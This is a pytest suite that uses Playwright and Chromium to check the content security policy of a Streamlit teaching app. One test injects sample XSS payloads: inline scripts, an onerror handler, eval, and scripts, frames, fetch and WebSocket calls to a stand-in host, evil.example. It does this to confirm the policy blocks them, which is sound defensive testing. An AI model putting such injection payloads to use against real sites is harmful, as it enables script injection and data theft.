"""Every page under the content security policy, in a real Chromium: nothing is refused, nothing is complained of."""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any

import pytest

from engine.core import registry
from tests.bench.server import Answer, App, app, serving, until, wait_live

LISTEN = """
window.refused = [];
document.addEventListener('securitypolicyviolation', (e) => window.refused.push(
  `${e.effectiveDirective}: ${e.blockedURI} (${e.sourceFile}:${e.lineNumber} ${e.sample})`), true);
"""
OWN_NOISE = ("_stcore/host-config", "_stcore/health")  # streamlit looks for its base path by asking for these


class Witness:
    """A tab that remembers what the policy refused and what the console was told."""

    def __init__(self, chromium: Any, url: str, **context: Any) -> None:
        self.context = chromium.new_context(viewport={"width": 1366, "height": 768}, **context)
        self.context.add_init_script(LISTEN)
        self.page = self.context.new_page()
        self.errors: list[str] = []
        self.page.on("pageerror", lambda error: self.errors.append(str(error)))
        self.page.on("console", self._hear)
        self.headers = self.page.goto(url).headers

    def _hear(self, message: Any) -> None:
        if message.type == "error" and not (message.location or {}).get("url", "").endswith(OWN_NOISE):
            self.errors.append(f"{message.text} ({message.location})")

    def complaints(self) -> list[str]:
        return [*self.page.evaluate("() => window.refused"), *self.errors]


@pytest.fixture
def visit(chromium: Any, server: App) -> Iterator[Any]:
    opened: list[Witness] = []

    def open_(path: str, **context: Any) -> Witness:
        opened.append(Witness(chromium, f"{server.url}{path}", **context))
        return opened[-1]

    yield open_
    for witness in opened:
        witness.context.close()


# One topic a language: what breaks a rule complains in the console, too, and `test_labs.py` hears it on every topic's page.
@pytest.mark.parametrize(("slug", "language"), list(zip(registry.topics(), ("en", "zh"), strict=False)))
def test_a_live_page_with_everything_open_breaks_no_rule(visit, slug, language):
    witness = visit(f"/{slug}?lang={language}", color_scheme="dark" if language == "zh" else "light")
    page = witness.page
    wait_live(page)
    page.keyboard.press("Space")
    until(page, "() => latentLab.lastStatus.step > 2")
    page.keyboard.press("Space")
    for summary in page.locator("[data-testid=stExpander] summary").all():
        summary.click()
    page.locator("[data-testid=stExpander] code").first.wait_for()  # highlighted code
    page.locator(".katex").first.wait_for()  # typeset mathematics
    for view in page.locator("[data-testid=stButtonGroup]:not(.st-key-language *) button").all():
        if view.is_visible():
            view.click()
            page.wait_for_timeout(150)
    page.wait_for_timeout(300)
    assert witness.complaints() == []


@pytest.mark.parametrize("path", ["/", "/?lang=zh", "/runs", "/runs?lang=zh"])
def test_a_page_without_a_run_breaks_no_rule(visit, path):
    witness = visit(path)
    witness.page.locator("[data-testid=stApp] [data-testid=stMarkdown]").first.wait_for()
    witness.page.wait_for_timeout(1500)
    assert witness.complaints() == []


def test_what_is_taken_home_and_brought_along_breaks_no_rule(visit):
    """Pictures are made from blobs, scores come as files, own data are sent by Streamlit's own request."""
    slug = next((slug for slug, topic in registry.topics().items() if topic.uploads), None)
    if slug is None:
        pytest.skip("no topic takes own data")
    witness = visit(f"/{slug}?seed=0")  # free play: every control lies open
    page = witness.page
    wait_live(page)
    page.get_by_role("button", name="More for this figure").first.click()
    saving = page.get_by_role("menuitem", name="Save").all()
    assert saving
    page.keyboard.press("Escape")
    for place in range(len(saving)):
        page.get_by_role("button", name="More for this figure").first.click()
        with page.expect_download() as saved:
            page.get_by_role("menuitem", name="Save").nth(place).click()
        assert saved.value.path().stat().st_size > 100
    rows = "\n".join(["a,b", *(f"{i % 7},{i % 5}" for i in range(60))]).encode()
    kinds = page.locator("input[type=file]").first.get_attribute("accept") or ""
    name = "mine.csv" if "csv" in kinds else "mine.txt"
    page.locator("input[type=file]").first.set_input_files({"name": name, "mimeType": "text/plain", "buffer": rows})
    page.get_by_text("In use: mine.").first.wait_for()
    page.wait_for_timeout(500)
    assert witness.complaints() == []


@contextmanager
def another_site(framed: str) -> Iterator[str]:
    """A page of another origin that shows an address in a frame."""
    page = f'<link rel="icon" href="data:,"><iframe src="{framed}" width="1000" height="600"></iframe>'

    class Page(Answer):
        def do_GET(self) -> None:
            self.send(page.encode() if self.path == "/" else b"", "text/html")

    with serving(Page) as url:
        yield f"{url}/"


def test_a_slide_in_a_page_of_another_site_breaks_no_rule(chromium, server):
    """Embedding is a feature: by default any page may show the app in a frame."""
    slug = next(iter(registry.topics()))
    with another_site(f"{server.url}/{slug}?embed=true") as site:
        witness = Witness(chromium, site)
    inner = witness.page.frames[1]
    until(inner, "() => window.latentLab && latentLab.draws > 0 && !latentLab.lastStatus?.recorded", timeout=60_000)
    assert [*inner.evaluate("() => window.refused"), *witness.errors] == []
    witness.context.close()


def test_the_policy_refuses_what_an_injected_text_would_need(visit):
    """The listener hears: inline scripts, handlers, eval, foreign scripts, frames and connections are all refused."""
    page = visit("/").page
    page.locator("[data-testid=stApp]").wait_for()
    refused = page.evaluate(
        """async () => {
          window.refused.length = 0;
          const add = (tag, set) => { const e = document.createElement(tag); set(e); document.body.append(e); return e; };
          add('script', (e) => { e.textContent = 'window.hacked = 1'; });
          add('script', (e) => { e.src = 'https://evil.example/x.js'; });
          add('img', (e) => { e.setAttribute('onerror', 'window.hacked = 2'); e.src = 'https://evil.example/x.png'; });
          add('iframe', (e) => { e.src = 'https://evil.example/'; });
          add('object', (e) => { e.data = 'https://evil.example/'; });
          add('base', (e) => { e.href = 'https://evil.example/'; });
          add('link', (e) => { e.rel = 'stylesheet'; e.href = 'https://evil.example/x.css'; });
          setTimeout(() => { try { (0, eval)('window.hacked = 3'); } catch { } });  // later: the driver's own call may
          try { await fetch('https://evil.example/'); } catch { }
          try { new WebSocket('ws://evil.example/'); } catch { }
          await new Promise((done) => setTimeout(done, 500));
          return window.refused.map((line) => line.split(':')[0]);
        }"""
    )
    assert page.evaluate("() => window.hacked") is None
    wanted = {
        "script-src-elem",
        "script-src",
        "img-src",
        "frame-src",
        "object-src",
        "base-uri",
        "style-src-elem",
        "connect-src",
    }
    assert wanted <= set(refused)
    assert refused.count("script-src-elem") == 2 and refused.count("connect-src") == 2


def test_frame_ancestors_are_the_operators_to_choose(chromium, monkeypatch):
    monkeypatch.setenv("LATENT_LAB_FRAME_ANCESTORS", "'none'")
    with app() as closed, another_site(closed.url) as site:
        witness = Witness(chromium, closed.url)
        assert witness.headers["content-security-policy"].endswith("; frame-ancestors 'none'")
        witness.page.goto(site)
        for _ in range(100):
            witness.page.wait_for_timeout(100)
            if any("frame-ancestors" in error for error in witness.errors):
                break
        assert any("frame-ancestors" in error for error in witness.errors)
        assert [frame.url for frame in witness.page.frames[1:]] == ["chrome-error://chromewebdata/"]
        witness.context.close()
